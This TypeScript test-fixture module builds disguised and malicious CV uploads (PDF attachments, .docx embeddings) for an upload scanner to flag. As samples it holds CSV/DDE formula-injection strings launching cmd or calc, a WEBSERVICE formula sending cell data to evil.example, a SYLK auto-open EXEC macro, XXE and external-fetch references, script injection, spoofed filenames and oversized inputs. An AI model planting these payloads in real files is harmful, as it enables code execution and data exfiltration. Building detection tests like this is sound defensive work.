import { compoundFile } from '../../../support/compound-file';
import { shown } from '../../../support/contents';
import { docxFile, relationships, wordDocument } from '../../../support/docx';
import { classes, classOf, packagedFile } from '../../../support/ole';
import { attachedPdf } from '../../../support/pdf/make';
import { wordStreams } from '../../../support/word97';
import { zip } from '../../../support/zip';
import type { Hostile } from './hostile';

type Reason = Hostile['because'];
type File = [name: string, data: string | Buffer, because: Reason];

const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const turned = (text: string) => utf16(text).swap16();

const macroDocument =
  '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes"><w:binData w:name="editdata.mso"/></w:wordDocument>';
const page = '<html><script>alert(1)</script></html>';
const mail = 'MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n';
const table = 'ID;PWXL;N;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y1;K0;EEXEC("calc")\nE\n';
const rich = '{\\rtf1{\\object\\objautlink}}';

/** Texts that Office or a browser opens as something else, which carry the ends of documents and of texts. */
const disguises: Record<string, string> = { page, mail, table, rich, 'of macros': macroDocument };

/** What Word documents have as parts, and nothing carries as a file. */
const notCarried = ['ttf', 'otf'];

/** Ends of files that a reader of ours judges, of which no text is one. */
const judgedEnds = ['doc', 'docx', 'xls', 'xlsx', 'ppt', 'pptx', 'pps', 'zip', 'u3d', 'csl'];
const shownEnds = Object.keys(shown).filter((end) => !notCarried.includes(end));

const named: File[] = [
  ...[...judgedEnds, ...shownEnds].flatMap((end): File[] => [
    [`a.${end}`, 'Just text', 'what its name says'],
    [`a.${end}`, '\0\x01\x02\x03', 'what its name says'],
    [`a.${end}`, '<p>x</p>', 'what its name says'],
  ]),
  ...['doc', 'xls', 'jpg'].flatMap((end) =>
    ['<html>', '<?xml version="1.0"?><x/>', '<svg xmlns="http://www.w3.org/2000/svg"/>'].map(
      (text): File => [`a.${end}`, text, 'what its name says'],
    ),
  ),
  // A picture is none of Office's files, and none of them is a picture.
  ['a.doc', shown.png ?? '', 'what its name says'],
  ['a.png', zip([{ name: 'a.txt', data: 'x' }]), 'what its name says'],
  ['a.txt', shown.png ?? '', 'what its name says'],
  ['a.xml', 'Just text', 'what its name says'],
  ...notCarried.map((end): File => [`a.${end}`, shown[end] ?? '', 'no CV needs']),
  // Photoshop keeps pictures in other files.
  ['a.psd', '8BPS\0\x01', 'no CV needs'],
  ['a.jpg', '8BPS\0\x01', 'what its name says'],
  ['noend', '8BPS\0\x01', 'what its name says'],
  ['noend', '\x01\x02\x03\0', 'what its name says'],
];

/** However they begin, and whatever they are called. */
const disguised: File[] = [mail, table, rich].flatMap((text) =>
  ['a.doc', 'a.csv', 'noend'].flatMap((name) =>
    [text, ` ${text}`, `\r\n\t${text}`, `\ufeff${text}`, utf16(text), turned(text), utf16(`\n${text}`)].map(
      (data): File => [name, data, 'embedded program'],
    ),
  ),
);

const inMarkup: File[] = ['a.xml', 'a.csv', 'noend'].flatMap((name) =>
  [page, ` ${page}`, `\ufeff${page}`, utf16(page), turned(page), macroDocument, utf16(macroDocument)].map(
    (data): File => [name, data, name === 'a.csv' ? 'what its name says' : 'web page'],
  ),
);

const others: File[] = [
  ['a.xml', '<?mso-infoPathSolution x?><x/>', 'web page'],
  ['a.xml', '<x xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>', 'web page'],
  ['a.xml', '<x xmlns="http://schemas.microsoft.com/office/2006/xmlPackage"/>', 'web page'],
  ['a.xml', '<x xmlns="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>', 'web page'],
  ['a.xml', '<x xmlns:h="http://www.w3.org/1999/xhtml"><h:p/></x>', 'web page'],
  ['a.xml', '<?xml version="1.0" encoding="utf-7"?><x>+ADw-script+AD4-</x>', 'web page'],
  ['a.xml', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', 'web page'],
  ['a.xml', '<!DOCTYPE x SYSTEM "\\\\evil.example\\x.dtd"><x/>', 'web page'],
  ['a.xml', `${'<x>'.repeat(300)}${'</x>'.repeat(300)}`, 'web page'],
  ['a.xml', `<x><!--${'x'.repeat(3_100_000)}--></x>`, 'web page'],
  ['a.ics', 'BEGIN:VCALENDAR', 'no CV needs'],
  ['a.msg', compoundFile({ '__substg1.0_1013001E': '<script>alert(1)</script>' }), 'no CV needs'],
  ['noend', compoundFile({ '__substg1.0_1013001E': '<script>alert(1)</script>' }), 'a mail'],
  ['a.txt', '%!PS\n(x) show', 'embedded program'],
  ['a.eml.txt', `From: a\nSubject: b\n${mail}`, 'embedded program'],
  ['a.csv', "name,=cmd|'/c calc'!A0", 'a table that starts a program'],
  ['a.csv', 'name,=WEBSERVICE("http://evil.example/?"&A2)', 'a table that starts a program'],
  ['a.csv', '"+MSEXCEL|\'\\..\\..\\cmd.exe\'!x"', 'a table that starts a program'],
  ['a.tsv', utf16("x\t@sum(1)-cmd|'x'!A"), 'a table that starts a program'],
];

const files: File[] = [...named, ...disguised, ...inMarkup, ...others];

const attached = files.map(
  ([name, data, because]): Hostile => ({
    what: `a PDF with ${JSON.stringify(String(data).slice(0, 60))} attached as ${name}`,
    name: 'cv.pdf',
    data: attachedPdf(name, data),
    because,
  }),
);

const native = '\u0001Ole10Native';
const object = { bin: 'application/vnd.openxmlformats-officedocument.oleObject' };
const word = (what: string, data: Buffer, because: Reason): Hostile => ({
  what: `a .docx ${what}`,
  name: 'cv.docx',
  data,
  because,
});
const withObject = (streams: Record<string, Buffer | string>, clsid: string = classOf(streams)) =>
  docxFile({ 'word/embeddings/a.bin': compoundFile(streams, { '': clsid }) }, object);

/** Under any of the names that it may be saved under. */
const packaged = (['label', 'path', 'copy', 'wideCopy', 'wideLabel', 'widePath'] as const).map((place) =>
  word(
    `with a text inside whose ${place} is that of a Word document`,
    withObject({ [native]: packagedFile('a.txt', 'x', { [place]: 'C:\\a.doc' }) }),
    'what its name says',
  ),
);

/** Parts of a package by their kind, and by what they begin with. */
const parts: Hostile[] = [
  ...Object.entries({
    'image/png': 'picture.png',
    'image/x-emf': 'picture.emf',
    'audio/mpeg': 'sound.mp3',
    'video/mp4': 'film.mp4',
    'application/msword': 'a.doc',
    'application/vnd.ms-excel': 'a.xls',
    'application/vnd.openxmlformats-officedocument.oleObject': 'a.bin',
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet': 'a.xlsx',
  }).map(([kind, name]) => word(`with a text as part of ${kind}`, ofPart(name, kind, 'Just text'), 'no CV needs')),
  ...Object.entries(disguises).map(([what, text]) =>
    word(
      `with a ${what} as part of any kind`,
      ofPart('a.dat', 'application/octet-stream', ` ${text}`),
      what === 'page' || what === 'of macros' ? 'web page' : 'embedded program',
    ),
  ),
  ...['run.bat\x1b.txt', 'run.bat\u202e.txt', 'run.bat\0.txt', 'run.bat%00.txt'].map((name) =>
    word(
      `with an archive of a file called ${JSON.stringify(name)}`,
      ofPart('a.bin', 'application/octet-stream', zip([{ name, data: 'x' }])),
      'cannot be seen',
    ),
  ),
  word('with a program called a picture', ofPart('a.png', 'image/png', 'MZ\x90\0'), 'embedded program'),
  word('with a film called a picture', ofPart('a.png', 'image/png', shown.mp3 ?? ''), 'no CV needs'),
  word('with a text as a picture that was an object', ofPicture('CONTENTS', 'x'), 'no CV needs'),
  ...['Package', '\u0001Ole10Native', 'x/y', 'WordDocument'].map((stream) =>
    word(
      `with ${JSON.stringify(stream)} in a picture that was an object`,
      ofPicture(stream, 'x'),
      'something else inside',
    ),
  ),
  word(
    'with a drawing packed in an attribute that fetches something',
    docxFile({ 'word/document.xml': wordDocument(`<v:shape o:gfxdata="${packedDrawing().toString('base64')}"/>`) }),
    'fetched from elsewhere',
  ),
  word(
    'with a drawing packed in an attribute that is none',
    docxFile({ 'word/document.xml': wordDocument('<v:shape o:gfxdata="eHh4"/>') }),
    'no CV needs',
  ),
];

/** An object in a document, since what writes the container adds a stream to the outermost. */
function ofPicture(stream: string, data: string): Buffer {
  const one = 'ObjectPool/_1';
  const streams = { ...wordStreams({ text: 'CV' }), [`${one}/CONTENTS`]: shown.wmf ?? '', [`${one}/${stream}`]: data };
  return docxFile({ 'word/embeddings/a.bin': compoundFile(streams, { [one]: classes.picture }) }, object);
}

function ofPart(name: string, kind: string, data: string | Buffer): Buffer {
  const end = name.slice(name.lastIndexOf('.') + 1);
  return docxFile(
    { [`word/x/${name}`]: typeof data === 'string' ? Buffer.from(data, 'latin1') : data },
    { [end]: kind },
  );
}

function packedDrawing(): Buffer {
  return docxFile({
    'drs/_rels/e2oDoc.xml.rels': relationships(['image', 'http://evil.example/x.png', 'External']),
    'drs/e2oDoc.xml': '<x/>',
  });
}

/** Files inside that are not what their names or the document say of them. */
export const hostileCarried: Hostile[] = [...attached, ...packaged, ...parts];
